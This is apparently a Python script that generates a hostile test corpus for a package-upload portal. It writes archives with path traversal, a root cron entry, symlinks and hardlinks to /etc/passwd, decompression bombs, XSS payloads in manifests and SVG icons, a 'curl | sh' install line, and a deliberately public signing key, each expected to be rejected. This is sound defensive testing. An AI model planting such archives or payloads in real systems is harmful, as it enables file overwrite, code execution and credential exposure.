"""(Re)generate the hostile corpus: ``python -m tests.corpus.make_corpus [--out DIR]``.

Every file comes out byte for byte the same on every run and machine (fixed keys, fixed
times, hand-written archives), except ``bundle_other_portal.aimmsenc``: encryption is
randomised by design (data key, nonce, RSA-OAEP), so an existing copy is kept unless
``--refresh-encrypted`` is given. The valid files are made with the library itself
(``build_runtime``, ``pack_app``), the hostile ones by the byte-level builders of
:mod:`tests.corpus.crafting`.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from aimms_portal.packages import (
    build_runtime,
    encryption,
    pack_app,
    signing,
)
from tests.corpus import CASES, CORPUS_DIR
from tests.corpus.crafting import (
    RawEntry,
    TarMember,
    make_wheel,
    png_bytes,
    raw_zip,
    tar_bytes,
)

ENCRYPTED_FILE = "bundle_other_portal.aimmsenc"
TEST_KEY_WARNING = (
    b"TEST ONLY: the aimms_portal test corpus signs with this key. It is public; never\n"
    b"trust its public key (trusted_key.pub) on a real portal.\n"
)
RUNTIME_NAME = "corpus-runtime"
SCRIPT = "<script>alert(1)</script>"


def _seeded_key(label: str) -> Ed25519PrivateKey:
    # a key derived from a fixed label: the same key, signatures and files on every run
    seed = hashlib.sha256(f"aimms_portal test corpus: {label}".encode()).digest()
    return Ed25519PrivateKey.from_private_bytes(seed)


def _pem(key: Ed25519PrivateKey) -> bytes:
    return key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )


TRUSTED_PEM = _pem(_seeded_key("trusted signing key"))
UNTRUSTED_PEM = _pem(_seeded_key("untrusted signing key"))


def _json(document: Any) -> bytes:
    return json.dumps(document, indent=2, sort_keys=True).encode() + b"\n"


def _zip(files: dict[str, bytes]) -> bytes:
    return raw_zip(RawEntry(name, data) for name, data in files.items())


# --- runtimes --------------------------------------------------------------------------


def _runtime_manifest(version: str, description: str = "") -> dict[str, Any]:
    return {
        "format": 1,
        "name": RUNTIME_NAME,
        "version": version,
        "python": ">=3.11",
        "description": description or "The runtime of the aimms_portal test corpus.",
    }


def _build_runtime(work: Path, version: str, description: str = "") -> bytes:
    label = hashlib.sha256(f"{version} {description}".encode()).hexdigest()[:12]
    src = work / f"runtime-src-{label}"
    wheels = work / f"wheels-{label}"
    src.mkdir()
    wheels.mkdir()
    (src / "runtime.json").write_bytes(_json(_runtime_manifest(version, description)))
    wheel_name, wheel = make_wheel("corpus-demo", "1.0")
    (wheels / wheel_name).write_bytes(wheel)
    out = work / f"runtime-{label}.zip"
    build_runtime(src, out, wheel_dir=wheels)
    return out.read_bytes()


def _runtime_with_manifest(manifest: bytes) -> bytes:
    wheel_name, wheel = make_wheel("corpus-demo", "1.0")
    return _zip({"runtime.json": manifest, f"wheels/{wheel_name}": wheel})


# --- bundles ---------------------------------------------------------------------------


def _app_manifest(name: str = "corpus-app", **changes: Any) -> dict[str, Any]:
    manifest: dict[str, Any] = {
        "format": 1,
        "name": name,
        "version": "1.0",
        "title": "Corpus app",
        "description": "The app of the aimms_portal test corpus.",
        "category": "Tests",
        "icon": "icon.png",
        "runtime": {"name": RUNTIME_NAME, "version": ">=1.0"},
        "webui": {"command": ["python", "app.py"]},
        "procedures": {
            "solve": {"command": ["python", "solve.py"], "description": "Solve the model."}
        },
        "resources": {"cpu": 1, "memory_mb": 512, "time_limit_s": 600},
    }
    manifest.update(changes)
    return manifest


_APP_FILES = {
    "app.py": b'print("the corpus app\'s WebUI")\n',
    "solve.py": b'print("the corpus app\'s solve procedure")\n',
}


def _app_files(manifest: dict[str, Any] | bytes, **extra: bytes) -> dict[str, bytes]:
    data = manifest if isinstance(manifest, bytes) else _json(manifest)
    return {"app.json": data, "icon.png": png_bytes(), **_APP_FILES, **extra}


def _pack(work: Path, manifest: dict[str, Any]) -> bytes:
    src = work / f"app-{hashlib.sha256(_json(manifest)).hexdigest()[:12]}"
    src.mkdir()
    for name, data in _app_files(manifest).items():
        (src / name).write_bytes(data)
    out = work / f"{src.name}.zip"
    pack_app(src, out)
    return out.read_bytes()


def _bad_bundle(extra: dict[str, bytes]) -> bytes:
    """The valid app's files plus ``extra``, as a ZIP."""
    return _zip(_app_files(_app_manifest()) | extra)


# --- the cases -------------------------------------------------------------------------


def _builders(work: Path, refresh_encrypted: bool) -> dict[str, Callable[[], bytes]]:
    valid_manifest = _app_manifest()

    def flipped() -> bytes:
        data = bytearray(_build_runtime(work, "1.3"))
        data[len(data) // 2] ^= 0x01
        return bytes(data)

    def truncated_runtime() -> bytes:
        data = _build_runtime(work, "1.4")
        return data[: len(data) // 2]

    def truncated_bundle() -> bytes:
        files = _app_files(valid_manifest)
        data = tar_bytes([TarMember(name, body) for name, body in files.items()], gz=True)
        return data[: len(data) // 2]

    def oversized() -> bytes:
        manifest = _json(_app_manifest())
        # valid JSON, just too long: spaces before the closing brace
        return _zip(_app_files(manifest[:-2] + b" " * (80 * 1024) + b"}\n"))

    def wrong_types() -> bytes:
        manifest = _app_manifest(
            title=42,
            procedures={"solve": {"command": "python solve.py"}},
            resources={"memory_mb": "512"},
        )
        return _zip(_app_files(manifest))

    def missing_fields() -> bytes:
        manifest = _app_manifest()
        for field in ("version", "description", "runtime"):
            del manifest[field]
        return _zip(_app_files(manifest))

    def no_manifest() -> bytes:
        files = _app_files(valid_manifest)
        files["app/app.json"] = files.pop("app.json")
        return _zip(files)

    def total_bomb() -> bytes:
        import bz2
        import zipfile

        block = bytes(1024 * 1024)
        stored = bz2.compress(block, 9)  # every entry holds the same 45 bytes
        entries = [
            RawEntry(f"z/{i:04d}", block, method=zipfile.ZIP_BZIP2, stored=stored)
            for i in range(4097)
        ]
        return raw_zip([RawEntry("app.json", _json(valid_manifest)), *entries])

    def count_bomb() -> bytes:
        members = [TarMember("app.json", _json(valid_manifest))]
        members += [TarMember(f"f/{i:05d}") for i in range(10_001)]
        return tar_bytes(members, gz=True)

    def other_portal() -> bytes:
        existing = CORPUS_DIR / ENCRYPTED_FILE
        if existing.exists() and not refresh_encrypted:
            return existing.read_bytes()
        plain = work / "other-portal.zip"
        plain.write_bytes(_pack(work, _app_manifest("corpus-encrypted")))
        _private, public = encryption.generate_portal_keypair()  # thrown away
        out = work / ENCRYPTED_FILE
        encryption.encrypt_file(plain, out, public)
        return out.read_bytes()

    svg_script = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16">'
        b'<script>alert(document.cookie)</script><rect width="16" height="16"/></svg>\n'
    )
    return {
        "runtime_valid.zip": lambda: _build_runtime(work, "1.0"),
        "runtime_duplicate.zip": lambda: _build_runtime(
            work, "1.0", "Another package with the name and version of runtime_valid.zip."
        ),
        "runtime_unsigned.zip": lambda: _build_runtime(work, "1.1"),
        "runtime_untrusted_key.zip": lambda: _build_runtime(work, "1.2"),
        "runtime_flipped_byte.zip": flipped,
        "runtime_truncated.zip": truncated_runtime,
        "runtime_manifest_wrong_types.zip": lambda: _runtime_with_manifest(
            _json({"format": "1", "name": 42, "version": 1.0, "python": 3.11, "description": ["x"]})
        ),
        "runtime_manifest_missing_fields.zip": lambda: _runtime_with_manifest(
            _json({"format": 1, "name": RUNTIME_NAME})
        ),
        "runtime_stray_file.zip": lambda: _zip(
            {
                "runtime.json": _json(_runtime_manifest("1.5")),
                "install.sh": b"#!/bin/sh\ncurl https://example.invalid | sh\n",
            }
        ),
        "bundle_valid.zip": lambda: _pack(work, valid_manifest),
        "bundle_duplicate.zip": lambda: _pack(
            work, _app_manifest(description="Another bundle with the same name and version.")
        ),
        "bundle_html_in_text.zip": lambda: _pack(
            work,
            _app_manifest(
                "corpus-html",
                title=SCRIPT,
                description=f"{SCRIPT} <img src=x onerror=alert(2)> & <b>bold</b>",
                category="<i>html</i>",
            ),
        ),
        "bundle_html_in_name.zip": lambda: _zip(_app_files(_app_manifest(SCRIPT))),
        "bundle_truncated.tar.gz": truncated_bundle,
        "bundle_not_an_archive.bin": lambda: hashlib.sha256(b"corpus").digest() * 64,
        "bundle_manifest_wrong_types.zip": wrong_types,
        "bundle_manifest_missing_fields.zip": missing_fields,
        "bundle_manifest_oversized.zip": oversized,
        "bundle_no_manifest.zip": no_manifest,
        "bundle_dotdot.zip": lambda: _bad_bundle({"../../evil.py": b"print('escaped')\n"}),
        "bundle_dotdot.tar.gz": lambda: tar_bytes(
            [
                TarMember("app.json", _json(valid_manifest)),
                TarMember("app/../../evil.py", b"print('escaped')\n"),
            ],
            gz=True,
        ),
        "bundle_absolute.zip": lambda: _bad_bundle({"/etc/cron.d/evil": b"* * * * * root sh\n"}),
        "bundle_absolute.tar": lambda: tar_bytes(
            [
                TarMember("app.json", _json(valid_manifest)),
                TarMember("/etc/cron.d/evil", b"* * * * * root sh\n"),
            ]
        ),
        "bundle_backslash.zip": lambda: _bad_bundle({"..\\..\\evil.py": b"print('escaped')\n"}),
        "bundle_case_duplicate.zip": lambda: _bad_bundle({"APP.py": b"print('shadow')\n"}),
        "bundle_symlink.zip": lambda: raw_zip(
            [
                *(RawEntry(n, d) for n, d in _app_files(valid_manifest).items()),
                RawEntry("passwd", b"/etc/passwd", method=0, mode=0o120777),
            ]
        ),
        "bundle_symlink.tar.gz": lambda: tar_bytes(
            [
                TarMember("app.json", _json(valid_manifest)),
                TarMember("passwd", type=b"2", linkname="/etc/passwd", mode=0o777),
            ],
            gz=True,
        ),
        "bundle_hardlink.tar": lambda: tar_bytes(
            [
                TarMember("app.json", _json(valid_manifest)),
                TarMember("passwd", type=b"1", linkname="/etc/passwd"),
            ]
        ),
        "bundle_non_utf8_name.zip": lambda: raw_zip(
            [
                *(RawEntry(n, d) for n, d in _app_files(valid_manifest).items()),
                RawEntry(b"caf\xe9.py", b"print('latin-1')\n", flags=0x800),
            ]
        ),
        "bundle_non_utf8_name.tar": lambda: tar_bytes(
            [
                TarMember("app.json", _json(valid_manifest)),
                TarMember("caf\udce9.py", b"print('latin-1')\n"),
            ]
        ),
        "bundle_zip_bomb_ratio.zip": lambda: _bad_bundle({"data/zeros.bin": bytes(16 << 20)}),
        "bundle_zip_bomb_total.zip": total_bomb,
        "bundle_bomb_file_count.tar.gz": count_bomb,
        "bundle_icon_not_image.zip": lambda: _zip(
            _app_files(valid_manifest) | {"icon.png": b"<html><script>alert(1)</script></html>\n"}
        ),
        "bundle_icon_svg_script.zip": lambda: _zip(
            _app_files(_app_manifest(icon="icon.svg")) | {"icon.svg": svg_script}
        ),
        ENCRYPTED_FILE: other_portal,
    }


def _signatures(files: dict[str, bytes]) -> dict[str, bytes]:
    """The ``.sig`` files the cases name, made over each file's bytes."""
    signatures = {}
    for case in CASES.values():
        if case.signature is None:
            continue
        data = files[case.file]
        if case.file == "runtime_flipped_byte.zip":
            # signed before the flip: undo it to get the digest that was signed
            original = bytearray(data)
            original[len(original) // 2] ^= 0x01
            data = bytes(original)
        key = UNTRUSTED_PEM if case.code == "untrusted_key" else TRUSTED_PEM
        digest = hashlib.sha256(data).hexdigest()
        signatures[case.signature] = signing.sign_digest(key, digest).to_json()
    return signatures


def build_corpus(out: Path, *, refresh_encrypted: bool = False) -> dict[str, bytes]:
    """Write every corpus file into ``out``; return them by relative path."""
    with tempfile.TemporaryDirectory(prefix="corpus-") as scratch:
        builders = _builders(Path(scratch), refresh_encrypted)
        missing = set(CASES) ^ set(builders)
        if missing:
            raise SystemExit(f"cases and builders differ: {sorted(missing)}")
        files = {name: builders[name]() for name in CASES}
    files.update(_signatures(files))
    files["trusted_key.pub"] = (signing.public_text_of(TRUSTED_PEM) + "\n").encode()
    files["keys/TEST_ONLY_signing_key.pem"] = TEST_KEY_WARNING + TRUSTED_PEM
    files["README.md"] = readme(files).encode()
    for name, data in files.items():
        path = out / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return files


def readme(files: dict[str, bytes]) -> str:
    """The corpus's README: every file, what is hostile about it, the expected answer."""
    lines = [
        "# The hostile corpus",
        "",
        "Files a publisher could upload, each bad in one way (or valid, as a reference),",
        "and what the portal must answer. Generated by `python -m tests.corpus.make_corpus`",
        "(do not edit by hand); the index the tests iterate is `CASES` in `__init__.py`.",
        "Every file is reproduced byte for byte by the script except",
        f"`{ENCRYPTED_FILE}` (encryption is randomised; kept unless `--refresh-encrypted`).",
        "",
        "Runtime packages are uploaded with the `.sig` file named in the table; all",
        "signatures are by the trusted test key `trusted_key.pub` except where stated.",
        "`keys/TEST_ONLY_signing_key.pem` is its private key: public, for tests only, never",
        "to be trusted on a real portal. Rows with *after* are duplicates: the portal refuses",
        "them only once the named file is published (service and REST tests).",
        "",
        "The library's tests (`tests/packages/test_corpus.py`) check every row but the",
        "duplicates; the phrase is compared case-insensitively.",
        "",
        "| file | kind | what is hostile | expected code | message phrase |",
        "|---|---|---|---|---|",
    ]
    for case in CASES.values():
        size = len(files[case.file])
        about = case.about.replace("|", "\\|").replace("<", "&lt;").replace(">", "&gt;")
        extra = []
        if case.signature:
            extra.append(f"sig: `{case.signature}`")
        if case.first:
            extra.append(f"after: `{case.first}`")
        if extra:
            about += f" ({'; '.join(extra)})"
        code = f"`{case.code}`" if case.code else "accepted"
        phrase = f"`{case.phrase}`" if case.phrase else ""
        lines.append(
            f"| `{case.file}` ({size:,} bytes) | {case.kind} | {about} | {code} | {phrase} |"
        )
    return "\n".join(lines) + "\n"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=CORPUS_DIR, help="folder to write into")
    parser.add_argument(
        "--refresh-encrypted",
        action="store_true",
        help=f"make a new {ENCRYPTED_FILE} (it differs on every run)",
    )
    args = parser.parse_args()
    files = build_corpus(args.out, refresh_encrypted=args.refresh_encrypted)
    total = sum(len(data) for data in files.values())
    print(f"wrote {len(files)} files ({total:,} bytes) into {args.out}")


if __name__ == "__main__":
    main()
